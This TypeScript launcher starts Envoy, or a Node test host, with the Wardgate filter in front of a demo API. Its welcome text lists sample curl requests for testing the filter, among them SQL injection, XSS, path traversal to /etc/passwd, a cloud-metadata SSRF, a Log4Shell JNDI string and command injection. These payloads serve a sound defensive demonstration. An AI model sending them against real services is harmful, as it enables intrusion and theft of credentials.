// `npm start`: Envoy with the filter before a demo API or a given service; prints what happens until Ctrl-C.
import { createServer } from "node:net";
import { fileURLToPath } from "node:url";
import { type DemoApi, startDemoApi } from "../demo/api.ts";
import { type EnvoyBinary, EnvoyUnavailable, findEnvoy } from "../envoy/binary.ts";
import { Envoy, EnvoyFailed } from "../envoy/process.ts";
import { type Endpoint, sampleConfig } from "../envoy/sample.ts";
import { NodeHost, NodeHostFailed } from "./node-host.ts";
import { parseOptions, type StartOptions, UsageError, wardgateConfiguration } from "./options.ts";
import { Report } from "./report.ts";

const MODULE = fileURLToPath(new URL("../../build/wardgate.wasm", import.meta.url));

const options = parseOptions(process.argv.slice(2));
const report = new Report(options.json);
const running: { stop(): Promise<void> }[] = [];
let stopping = false;

process.on("SIGINT", () => void stop(0));
process.on("SIGTERM", () => void stop(0));
process.on("SIGHUP", () => void stop(0));
try {
  await start();
} catch (error) {
  if (!stopping) await fail(error);
}

async function start(): Promise<void> {
  const configuration = wardgateConfiguration(options);
  await checkPort(options.host, options.port);
  const binary = await envoyOrNone();
  const demo = options.upstream ? undefined : await startDemo();
  const upstream = options.upstream ?? { host: "127.0.0.1", port: demo!.port };
  if (binary) await startEnvoy(binary, configuration, upstream);
  else await startNodeHost(configuration, upstream);
  report.say(welcome(options, upstream, demo));
}

async function startDemo(): Promise<DemoApi> {
  const demo = await startDemoApi(0, ({ method, url, bodyBytes }) => {
    report.say(report.paint("blue", `[demo api] received ${method} ${url} (${bodyBytes} body bytes)`));
  });
  running.push({ stop: () => demo.close() });
  return demo;
}

async function envoyOrNone(): Promise<EnvoyBinary | undefined> {
  try {
    return await findEnvoy(options.envoyVersion);
  } catch (error) {
    if (!(error instanceof EnvoyUnavailable)) throw error;
    report.say(report.paint("yellow", error.message));
    return undefined;
  }
}

async function startEnvoy(binary: EnvoyBinary, configuration: string, upstream: Endpoint): Promise<void> {
  report.say(`Envoy ${binary.version} (${binary.source}: ${binary.path})`);
  const envoy = await Envoy.start({
    binary: binary.path,
    config: sampleConfig({ listen: options, adminPort: 0, upstream, module: MODULE, configuration }),
    concurrency: options.concurrency,
    logLevel: options.logLevel,
    onLog: (line) => (isNoise(line.message) ? undefined : report.log(line)),
    onAccess: (line) => report.access(line),
  });
  running.push(envoy);
  void envoy.exited.then((code) => {
    if (stopping) return;
    report.say(report.paint("red", `Envoy ended by itself (exit code ${code}).`));
    void stop(1);
  });
}

/** The stopgap: the filter in the Node host of its tests. */
async function startNodeHost(configuration: string, upstream: Endpoint): Promise<void> {
  report.say(
    report.paint(
      "yellow",
      "No Envoy: the filter runs in its Node test host instead. Good for a try, not for production.",
    ),
  );
  const host = await NodeHost.start({
    ...{ listen: options, upstream, module: MODULE, configuration },
    onLog: (line) => report.log(line),
    onAccess: (line) => report.access(line),
  });
  running.push(host);
}

/** What Envoy says at every start and stop of any configuration. */
function isNoise(message: string): boolean {
  return (
    message.startsWith("There is no configured limit to the number of allowed active") ||
    message.startsWith("caught ")
  );
}

/** Envoy shares ports with other Envoys (SO_REUSEPORT), so a busy port must be found out before. */
function checkPort(host: string, port: number): Promise<void> {
  return new Promise((resolve, reject) => {
    const probe = createServer();
    probe.once("error", (error: NodeJS.ErrnoException) => {
      const busy = error.code === "EADDRINUSE";
      reject(
        new UsageError(
          busy
            ? `Port ${port} is in use: choose another with --port.`
            : `Cannot listen on ${host}:${port}: ${error.message}`,
        ),
      );
    });
    probe.listen(port, host, () => probe.close(() => resolve()));
  });
}

function welcome({ port, mode, host }: StartOptions, upstream: Endpoint, demo: DemoApi | undefined): string {
  const base = `http://${host === "0.0.0.0" ? "127.0.0.1" : host}:${port}`;
  const json = `-H 'content-type: application/json'`;
  const service = demo ? "the demo API" : `${upstream.host}:${upstream.port}`;
  return `
Wardgate (${mode ?? "block"} mode) protects ${service} at ${report.paint("bold", base)}. Try:

  curl '${base}/api/items?q=O%27Brien'                                              ${report.paint("green", "passes")}
  curl ${base}/api/users ${json} -d '{"name":"Ada","age":36}'        ${report.paint("green", "passes")}
  curl ${base}/api/users ${json} -d '{"user":{"name":"x'"'"' OR 1=1 -- "}}'
  curl -g '${base}/api/items?q=<img%20src=x%20onerror=alert(1)>'
  curl '${base}/api/items?f=../../../../etc/passwd'
  curl '${base}/api/items?u=http://169.254.169.254/latest/meta-data/'
  curl ${base}/api/login ${json} -d '{"user":"\${jndi:ldap://x/a}"}'
  curl ${base}/api/users --data-urlencode 'name=; cat /etc/passwd'
  curl -A sqlmap/1.8 ${base}/api/items

Ctrl-C stops everything.
`;
}

async function stop(code: number): Promise<void> {
  if (stopping) return;
  stopping = true;
  await Promise.allSettled(running.reverse().map((part) => part.stop()));
  process.exit(code);
}

async function fail(error: unknown): Promise<void> {
  if (error instanceof UsageError) {
    report.say(report.paint("red", error.message));
  } else if (error instanceof EnvoyFailed || error instanceof NodeHostFailed) {
    report.say(report.paint("red", `${error.message}; the messages above say why.`));
  } else {
    report.say(report.paint("red", String((error as Error)?.stack ?? error)));
  }
  await stop(1);
}
